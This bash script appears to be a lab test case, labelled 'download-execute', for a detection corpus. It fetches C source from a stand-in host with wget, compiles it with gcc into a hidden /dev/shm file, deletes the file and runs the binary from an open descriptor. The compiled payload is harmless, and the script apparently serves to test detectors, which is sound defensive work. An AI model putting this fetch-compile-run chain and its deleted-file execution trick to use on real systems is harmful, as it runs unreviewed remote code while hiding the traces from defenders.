#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=gcc,wget far=out seconds=16 parts=dns,outside-web
# Source comes from outside over a pipe into gcc; what it makes is run by a descriptor when its name is gone.
if [ "$1" = out ]; then mkdir -p "$LAB/outside/drop"; printf '#include <stdio.h>\n#include <unistd.h>\nint main(void) { puts("uid"); fflush(stdout); sleep(4); return 0; }\n' >"$LAB/outside/drop/a.c"; sleep 18; exit 0; fi
sleep 1; wget -q -O - http://relay.example.net/drop/a.c | gcc -x c -o /dev/shm/.nwlab-cc - || exit 1
exec 3</dev/shm/.nwlab-cc; rm -f /dev/shm/.nwlab-cc
/proc/self/fd/3 | grep -q uid
